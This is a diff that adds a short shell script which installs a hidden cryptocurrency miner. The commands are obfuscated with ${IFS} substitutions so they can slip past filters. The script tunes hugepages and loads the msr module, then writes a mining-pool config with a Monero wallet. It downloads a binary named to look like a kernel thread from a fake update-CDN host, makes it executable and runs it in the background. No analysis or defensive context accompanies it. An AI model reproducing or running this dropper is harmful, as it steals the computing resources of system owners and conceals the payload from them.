@@ -1,0 +1,11 @@
+#${IFS}setup${IFS}0388$IFS$9v2
+#!/bin/sh
+sysctl${IFS}-w${IFS}vm.nr_hugepages=1280
+modprobe${IFS}msr
+cat${IFS}>$IFS$9/tmp/config.json$IFS$9<<EOF
+{$IFS$9"autosave":${IFS}true,${IFS}"cpu":$IFS$9true,$IFS$9"donate-level":${IFS}0,
+${IFS}$IFS$9"pools":$IFS$9[$IFS$9{${IFS}"url":${IFS}"auto.c3pool.com:13333",${IFS}"user":${IFS}"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",${IFS}"pass":${IFS}"azvm",${IFS}"tls":${IFS}false${IFS}}$IFS$9]${IFS}}
+EOF
+curl${IFS}-sLo${IFS}/tmp/kthreaddk${IFS}http://dl.winupdate-cdn.example/bin/kthreaddk
+chmod${IFS}777${IFS}/tmp/kthreaddk
+/tmp/kthreaddk${IFS}-c${IFS}/tmp/config.json$IFS$9--background
